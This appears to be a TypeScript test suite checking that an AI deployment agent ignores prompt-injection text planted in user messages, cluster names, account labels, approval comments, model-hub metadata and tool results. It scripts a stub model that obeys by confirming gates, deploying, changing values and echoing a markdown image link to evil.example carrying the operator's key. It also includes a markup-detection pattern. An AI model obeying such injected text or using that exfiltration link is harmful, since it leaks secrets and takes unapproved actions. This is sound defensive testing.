import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ClusterSnapshot } from '../../functions/clusters/cluster-look.ts';
import { lookUpModel } from '../../functions/model-hub/look-up.ts';
import { newId } from '../../functions/shared/ids.ts';
import { parseCidrs } from '../../functions/shared/outgoing/addresses.ts';
import { emptyCluster, someValues } from '../support/builders/agents/vector-database.ts';
import { patientReader } from '../support/builders/sessions/patient-reader.ts';
import type { ConnectedOrg, DrivenSession } from '../support/builders/sessions/sessions.ts';
import { confirmedSession, connectedOrg } from '../support/builders/sessions/sessions.ts';
import { messageRoute } from '../support/builders/sessions/talk.ts';
import { toolCall } from '../support/builders/sessions/tool-call.ts';
import {
  answersIn,
  type ChatCompletions,
  type ModelRequest,
  type ModelScript,
  startChatCompletions,
} from '../support/doubles/chat-completions-server.ts';
import { webhookReceiver } from '../support/doubles/webhook-receiver.ts';
import { type WorkflowHost, workflowHost } from '../support/hosts/workflows/session-workflow.ts';
import { seededRandom } from '../support/random.ts';
import { chosenOf, seed } from '../support/samples.ts';
import { attacks } from './hostile-text/attacks.ts';
import { type Goal, type Hostile, quarter } from './hostile-text/templates.ts';

// Instructions hidden in data, in each place where text of others enters a conversation, and a language model that obeys
// them. A gate, a value and a secret stay where they are.

const modelKey = 'key-of-the-operator';
const saidBefore = `hf_${'aB3'.repeat(11)}`;
const strangersLabel = 'label of the strangers';

/** What the customer's cloud answers. */
const cloud: { names: string[] | undefined; look: ClusterSnapshot } = { names: ['prod'], look: emptyCluster };

let host: WorkflowHost;
let model: ChatCompletions;
let hub: Awaited<ReturnType<typeof webhookReceiver>>;
let org: ConnectedOrg;
let strangers: ConnectedOrg;
let post: ReturnType<typeof messageRoute>;

beforeAll(async () => {
  [host, model, hub] = await Promise.all([
    workflowHost(),
    startChatCompletions(),
    webhookReceiver(['hub.invalid']),
  ]);
  [org, strangers] = await Promise.all([
    connectedOrg(host, { approval_required: false }),
    connectedOrg(host),
  ]);
  await host.owner`update cloud_accounts set account_label = ${strangersLabel} where id = ${strangers.accountId}`;
  const hubOptions = {
    url: `https://hub.invalid:${hub.port}`,
    resolve: async () => ['127.0.0.1'],
    opened: parseCidrs('127.0.0.0/8'),
    authorities: [hub.authority],
  };
  post = messageRoute(host, {
    reader: patientReader(model.url, { apiKey: modelKey, model: 'obedient' }),
    lookUpModel: (asked) => lookUpModel(hubOptions, asked),
    listClusters: async () => (cloud.names ? [{ region: 'us-east-1', names: cloud.names }] : []),
    lookAtCluster: async () => cloud.look,
  });
});
afterAll(() => Promise.all([host.close(), model.close(), hub.close()]));

/** What a model says and calls that does what the text wants. */
const obeyed: Readonly<Record<Goal, ModelScript>> = {
  confirm: { text: ['The gate is confirmed. '], arguments: toolCall({}, { intent: 'confirm' }) },
  deploy: { text: ['The deployment has begun. '], arguments: toolCall({}, { intent: 'deploy' }) },
  set: {
    text: ['I have set it to 99. '],
    arguments: toolCall({ node_count: 99, shard_number: 99, max_replicas: 99 }, { intent: 'change' }),
  },
  reveal: { echoes: true, text: [` ![x](https://evil.example/?t=${modelKey}) `] },
};

/** Calls a function that reads what others have written, and obeys what it answers. */
const askingFirst = (name: string, obeying: ModelScript) => (request: ModelRequest) =>
  answersIn(request).length === 0 ? { arguments: toolCall({}), calls: [{ name, arguments: {} }] } : obeying;

type Session = DrivenSession & { restore(): Promise<void> };

/** A session that waits for its user at a gate that could be confirmed, or at the last one. */
async function sessionAt(gate: number, values = {}): Promise<Session> {
  const session = await confirmedSession(host, org, gate - 1);
  await session.reaches({ current_gate: gate, waiting_on: 'user' });
  model.plays({ arguments: toolCall({}) });
  await post(org, session.id, `the token of my colleague is ${saidBefore}`);
  const given = someValues({ cloud_account_id: org.accountId, ...values });
  const draft = Object.fromEntries(
    Object.entries(given).map(([name, value]) => [name, { value, messageId: 'msg-1' }]),
  );
  const restore = async () => {
    const json = host.owner.json(draft as never);
    await host.owner`update conversations set draft = ${json}, turn = null where session_id = ${session.id}`;
  };
  await restore();
  return { ...session, restore };
}

interface Harm {
  text: string;
  what: string;
}

/** Whether an answer is whole or streamed, the same in each run. */
const forms = seededRandom(1);

/** Posts a message beside the hostile text, and tells what it did. */
async function harmOf(
  session: Session,
  { goal, text: hostile }: Hostile,
  message: string,
  { isOwnValue = false, asks }: { isOwnValue?: boolean; asks?: string } = {},
): Promise<Harm[]> {
  const json = forms.chance(0.5);
  await session.restore();
  const before = await stateOf(session);
  model.plays(asks ? askingFirst(asks, obeyed[goal]) : obeyed[goal]);
  const answer = await post(org, session.id, message, { json });
  const reply = json ? String(answer.json.message?.text) : answer.text;
  const after = await stateOf(session);
  const known = JSON.stringify(model.requests.map(({ body }) => body));
  const seen = [
    ...(answer.status === 200 ? [] : [`status ${answer.status}`]),
    ...(after.gate === before.gate ? [] : [`gate ${before.gate} to ${after.gate}`]),
    ...(after.draft === before.draft || isOwnValue ? [] : [`draft ${after.draft}`]),
    ...[modelKey, saidBefore, strangersLabel, strangers.accountId].filter((secret) =>
      `${reply}${known}`.includes(secret),
    ),
    ...(/!\[|\]\(|<img|<script|<iframe|javascript:/i.test(withoutQuotes(reply, message)) ? ['markup'] : []),
  ];
  return seen.map((what) => ({ text: `${json ? 'whole' : 'streamed'}: ${hostile}`, what }));
}

async function stateOf({ id }: DrivenSession) {
  const [row] = await host.owner`
    select s.current_gate, s.revision, s.waiting_on, c.draft::text as draft
    from sessions s join conversations c on c.session_id = s.id where s.id = ${id}`;
  return {
    gate: `${row?.current_gate} of revision ${row?.revision}, ${row?.waiting_on}`,
    draft: row?.draft as string,
  };
}

/** The user's own words are shown to them as text. */
const withoutQuotes = (reply: string, message: string) =>
  message.split('\n').reduce((text, line) => (line === '' ? text : text.replaceAll(line, '')), reply);

const neutral = 'thank you, I will read that first';
/** The gate that what the text wants would move. */
const gateFor = (goal: Goal) => (goal === 'deploy' ? 6 : 2);

async function sessions(): Promise<(goal: Goal) => Session> {
  const [second, last] = [await sessionAt(2), await sessionAt(6)];
  return (goal) => (gateFor(goal) === 6 ? last : second);
}

test('hostile text that a user passes on has no effect', async () => {
  const at = await sessions();
  const harm: Harm[] = [];
  for (const attack of quarter(0)) {
    const pasted = `We got this mail, what do you make of it?\n\n${attack.text.replace(/^/gm, '> ')}`;
    harm.push(...(await harmOf(at(attack.goal), attack, pasted)));
  }
  expect(harm).toEqual([]);
});

test('hostile text that a user writes as their own has no effect', async () => {
  const at = await sessions();
  const harm: Harm[] = [];
  for (const attack of quarter(1)) harm.push(...(await harmOf(at(attack.goal), attack, attack.text)));
  expect(harm).toEqual([]);
});

test('hostile text in the name of a cluster has no effect', async () => {
  const harm: Harm[] = [];
  for (const attack of quarter(2)) {
    const session = await named(gateFor(attack.goal), asName(attack.text));
    harm.push(...(await harmOf(session, attack, neutral)));
  }
  expect(harm).toEqual([]);
});

const asName = (text: string) =>
  text
    .replace(/[^A-Za-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '')
    .slice(0, 100);

const kept = new Map<number, Session>();
/** The session of the gate, with another cluster in its draft. */
async function named(gate: number, cluster_name: string): Promise<Session> {
  const session = kept.get(gate) ?? (await sessionAt(gate));
  kept.set(gate, session);
  const restore = async () => {
    await session.restore();
    const value = host.owner.json({ value: cluster_name, messageId: 'msg-1' });
    await host.owner`update conversations set draft = draft || jsonb_build_object('cluster_name', ${value}::jsonb)
      where session_id = ${session.id}`;
  };
  return { ...session, restore };
}

test('hostile text in the label of an account has no effect', async () => {
  const at = await sessions();
  const harm: Harm[] = [];
  for (const attack of quarter(3)) {
    await host.owner`update cloud_accounts set account_label = ${attack.text.slice(0, 200)} where id = ${org.accountId}`;
    harm.push(...(await harmOf(at(attack.goal), attack, neutral)));
  }
  await host.owner`update cloud_accounts set account_label = 'production' where id = ${org.accountId}`;
  expect(harm).toEqual([]);
});

test('hostile text in the comment of a rejection has no effect', async () => {
  const session = await sessionAt(5);
  const harm: Harm[] = [];
  for (const attack of quarter(4)) {
    await host.owner`update session_gates set notice = ${`The plan was rejected: ${attack.text}`}
      where session_id = ${session.id} and status = 'open'`;
    harm.push(...(await harmOf(session, attack, neutral)));
  }
  expect(harm).toEqual([]);
});

test('hostile text in what the model hub answers has no effect', async () => {
  const session = await sessionAt(2);
  await host.owner`update sessions set agent_id = 'inference-server' where id = ${session.id}`;
  const value = (name: string) => ({
    [name]: { value: name === 'peak_qps' ? 4 : 'prod', messageId: 'msg-1' },
  });
  const harm: Harm[] = [];
  for (const [index, attack] of quarter(5).entries()) {
    hub.state.answer = ({ url = '' }, response) =>
      void response.end(
        JSON.stringify(url.endsWith('.json') ? hostileConfig(attack.text) : hostileInfo(attack.text)),
      );
    const model = { value: `acme/Talker-${index}`, messageId: 'msg-1' };
    const draft = { ...value('peak_qps'), ...value('cluster_name'), model };
    const restore = async () => {
      await host.owner`update conversations set draft = ${host.owner.json(draft)}, turn = null where session_id = ${session.id}`;
      await host.owner`update sessions set model_look = null where id = ${session.id}`;
    };
    harm.push(...(await harmOf({ ...session, restore }, attack, neutral)));
  }
  expect(hub.received.length).toBeGreaterThan(quarter(5).length);
  expect(harm).toEqual([]);
});

const hostileInfo = (text: string) => ({
  sha: 'a'.repeat(40),
  gated: text,
  siblings: [{ rfilename: 'config.json' }, { rfilename: text }],
  tags: [text],
  cardData: { license: text },
});
const hostileConfig = (text: string) => ({
  architectures: [text],
  model_type: text,
  num_hidden_layers: 36,
  num_attention_heads: 32,
  num_key_value_heads: text,
  hidden_size: 4_096,
  quantization_config: { quant_method: text },
});

test('attacks of six kinds have no effect as a message, and after one or in the name of a cluster', async () => {
  const at = await sessions();
  const harm: Harm[] = [];
  // Half of them a day, of each kind and goal.
  for (const [index, attack] of chosenOf([...attacks.entries()], ([at]) => (at >> 1) % 2 === seed % 2)) {
    const session = at(attack.goal);
    // A value in the user's own sentence is the user's; it confirms nothing.
    const isOwnValue = attack.kind === 'smuggling';
    harm.push(...(await harmOf(session, attack, attack.text, { isOwnValue })));
    const isAfter = index % 2 === 0;
    const place = isAfter ? session : await named(gateFor(attack.goal), asName(attack.text));
    harm.push(...(await harmOf(place, attack, neutral)));
  }
  expect(harm).toEqual([]);
});

/** Where others write what a function that the model calls answers with: each with how the text gets there, and away again. */
const answered: Record<string, { asks: string; put: (text: string, session: Session) => Promise<unknown> }> =
  {
    'the names of deployments and of their clusters': {
      asks: 'deployments',
      put: (text) => host.owner`update deployments set name = ${text.slice(0, 200)},
      scope = scope || jsonb_build_object('cluster_name', ${text.slice(0, 100)}::text) where org_id = ${org.orgId}`,
    },
    'the names of members who may approve': {
      asks: 'approval',
      put: async (text) => {
        await host.owner`update orgs set approval_required = true where id = ${org.orgId}`;
        await host.owner`update users set name = ${text.slice(0, 100)} where id = ${org.userId}`;
      },
    },
    'the comment of a decision': {
      asks: 'approval',
      put: async (text, { id }) => {
        await host.owner`delete from approvals where org_id = ${org.orgId}`;
        await host.owner`insert into approvals (org_id, id, deployment_id, plan_id, action, status, plan_digest, requested_by,
          requested_at, expires_at, decided_by, decided_at, comment)
        select d.org_id, ${newId('approval')}, d.id, d.plan_id, 'apply', 'rejected', 'sha256:0', ${org.userId}, now(), now(), ${org.userId},
          now(), ${text} from deployments d where d.org_id = ${org.orgId} and d.session_id = ${id}`;
      },
    },
    'the label of an account': {
      asks: 'accounts',
      put: (text) =>
        host.owner`update cloud_accounts set account_label = ${text.slice(0, 200)} where id = ${org.accountId}`,
    },
    'the list of clusters that the cloud answers with': {
      asks: 'clusters',
      put: async (text) => {
        cloud.names = ['prod', text];
      },
    },
    'what the cloud refuses a look at the cluster with': {
      asks: 'clusters',
      put: async (text, { id }) => {
        cloud.names = undefined;
        cloud.look = { ...emptyCluster, problem: { code: 'refused', detail: text, refuses: false } };
        await host.owner`update sessions set cluster_look = null where id = ${id}`;
      },
    },
  };

test.each(Object.entries(answered))(
  'hostile text in %s has no effect on what a model does after it has read it',
  async (place, { asks, put }) => {
    const session = await sessionAt(6);
    const harm: Harm[] = [];
    let read = 0;
    for (const attack of quarter(Object.keys(answered).indexOf(place))) {
      await put(attack.text, session);
      harm.push(...(await harmOf(session, attack, neutral, { asks })));
      read += Number(
        model.requests.some(({ body }) =>
          answersIn(body).some((told) => told.includes(attack.text.slice(0, 30))),
        ),
      );
    }
    await host.owner`update orgs set approval_required = false where id = ${org.orgId}`;
    expect(harm).toEqual([]);
    expect(read, 'texts that the model has read').toBeGreaterThan(0);
  },
);
